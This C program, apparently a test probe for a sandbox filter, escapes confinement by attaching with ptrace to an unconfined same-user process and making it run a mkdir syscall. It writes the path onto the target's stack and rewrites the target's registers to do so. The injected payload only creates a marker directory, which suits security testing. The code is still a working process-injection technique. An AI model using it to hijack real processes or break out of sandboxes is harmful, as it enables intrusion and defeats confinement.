/* escape-ptrace-other PID MARKER: attaches to another process PID of the
 * same user that the filter does not confine (here a sleep started beside
 * it) and makes it create the directory MARKER: the path is written on its
 * stack, its registers set for mkdir, and its interrupted `syscall`
 * instruction run again. Prints each step. */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

#include "say.h"

int main(int argc, char **argv) {
    if (argc != 3) return 2;
    pid_t pid = (pid_t)atoi(argv[1]);
    long result = ptrace(PTRACE_ATTACH, pid, 0, 0);
    say("PTRACE_ATTACH", result);
    if (result != 0) return 1;
    int status;
    waitpid(pid, &status, 0);
    struct user_regs_struct regs;
    if (ptrace(PTRACE_GETREGS, pid, 0, &regs) != 0) return 1;
    /* The path, a word at a time, well below the victim's stack pointer. */
    unsigned long at = (regs.rsp - 4096) & ~7UL;
    size_t len = strlen(argv[2]) + 1;
    for (size_t offset = 0; offset < len; offset += sizeof(long)) {
        long word = 0;
        memcpy(&word, argv[2] + offset, len - offset < sizeof word ? len - offset : sizeof word);
        if (ptrace(PTRACE_POKEDATA, pid, at + offset, word) != 0) return 1;
    }
    regs.orig_rax = -1; /* no restart of the interrupted call */
    regs.rax = SYS_mkdir;
    regs.rdi = at;
    regs.rsi = 0755;
    regs.rip -= 2; /* back onto its `syscall` instruction */
    say("PTRACE_SETREGS", ptrace(PTRACE_SETREGS, pid, 0, &regs));
    /* Run up to the end of that call, then let it go. */
    ptrace(PTRACE_SYSCALL, pid, 0, 0);
    waitpid(pid, &status, 0);
    ptrace(PTRACE_SYSCALL, pid, 0, 0);
    waitpid(pid, &status, 0);
    say("PTRACE_DETACH", ptrace(PTRACE_DETACH, pid, 0, 0));
    return 0;
}
